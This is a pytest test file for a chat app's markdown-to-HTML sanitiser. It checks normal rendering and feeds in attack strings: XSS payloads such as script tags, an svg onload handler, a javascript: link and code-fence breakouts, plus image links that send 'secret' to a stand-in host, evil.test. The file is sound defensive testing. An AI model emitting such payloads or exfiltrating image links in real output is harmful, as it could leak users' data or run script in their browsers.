import re

import pytest

from apps.chat.safe_markdown import html

TAGS = ("p", "h4", "ul", "li", "pre", "code", "strong")
SHOWN = {f"<{tag}>" for tag in TAGS} | {f"</{tag}>" for tag in TAGS}


def test_what_is_shown() -> None:
    text = "# Tea\n\nIt is **hot** and *green*,\nsays `a < b`.\n\n- one\n- two\n\n3. three\n\n```py\nx = '<b>'\n```\nend"
    assert html(text) == (
        "<h4>Tea</h4><p>It is <strong>hot</strong> and <em>green</em>,<br>says <code>a &lt; b</code>.</p>"
        "<ul><li>one</li><li>two</li></ul><ol start='3'><li>three</li></ol>"
        '<pre><code><span class="hl-n">x</span> <span class="hl-o">=</span> '
        """<span class="hl-s1">'&lt;b&gt;'</span></code></pre><p>end</p>"""
    )
    assert html("2 * 3 * 4 = 24 and snake_case_name") == "<p>2 * 3 * 4 = 24 and snake_case_name</p>"


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.test/?q=secret)",
        "[click](javascript:alert(1))",
        "<img src=https://evil.test/a>",
        "<script>alert(1)</script>",
        "**<svg onload=alert(1)>**",
        "`</code><script>`",
        "```\n</pre><script>alert(1)</script>",
        "# <iframe src=x>",
        "- <a href=x>",
        "https://evil.test/?q=secret",
    ],
)
def test_no_text_asks_another_server_or_runs(attack: str) -> None:
    """An answer may hold an attacker's words: an image in it would send what its address says."""
    assert set(re.findall(r"<[^>]*>", html(attack))) <= SHOWN


@pytest.mark.parametrize("text", ["", "\n\n", "```", "*" * 5000, "`" * 5000, "**a" * 3000, "- \n" * 100, "#" * 9])
def test_strange_texts_end(text: str) -> None:
    assert "<script" not in html(text)
